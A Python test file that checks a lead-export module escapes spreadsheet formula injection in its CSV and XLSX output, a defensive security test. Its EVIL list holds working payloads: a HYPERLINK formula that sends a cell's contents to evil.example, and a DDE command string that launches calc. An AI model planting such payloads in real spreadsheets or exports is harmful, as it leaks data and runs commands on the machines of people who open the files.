"""Lead exports: text that a spreadsheet could run as a formula is written as text (OWASP)."""

from __future__ import annotations

import csv
import io
from typing import Any

import openpyxl
import pytest

from jiancha.governance.spreadsheet import dangerous
from jiancha.leads.export import render, table_rows

EVIL = [
    '=HYPERLINK("http://evil.example/?"&A1,"详情")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


def _lead(title: str, n: int) -> dict[str, Any]:
    return {
        "id": n,
        "model": "m",
        "fingerprint": "ab" * 32,
        "status": "new",
        "hit": True,
        "subject_key": "k",
        "subject_name": "=1+2",
        "title": title,
        "jurisdiction": "@法院",
        "amount": "-1200.50",
        "evidence": {},
        "explanation": [],
    }


def test_formula_triggers() -> None:
    assert all(dangerous(v) for v in EVIL)
    assert not dangerous("-1200.50") and not dangerous("+86") and not dangerous("张三=李四")
    assert not dangerous(-5) and not dangerous(None)


@pytest.mark.parametrize("masked", [True, False])
def test_csv_cells_are_prefixed(masked: bool) -> None:
    leads = [_lead(t, n) for n, t in enumerate(EVIL, start=1)]
    data = render(table_rows(leads, masked=masked), "csv").decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(data, newline="")))[1:]
    assert [r[6] for r in rows] == ["'" + t for t in EVIL]
    assert {r[5] for r in rows} == {"'=1+2"} and {r[7] for r in rows} == {"'@法院"}
    assert {r[8] for r in rows} == {"-1200.50"}  # a number as text cannot be a formula


def test_xlsx_cells_are_text() -> None:
    leads = [_lead(t, n) for n, t in enumerate(EVIL, start=1)]
    book = openpyxl.load_workbook(io.BytesIO(render(table_rows(leads), "xlsx")))
    cells = [c for row in book["线索"].iter_rows(min_row=2) for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    titles = [c for c in cells if c.column == 7]
    assert [c.value for c in titles] == EVIL and all(c.quotePrefix for c in titles)
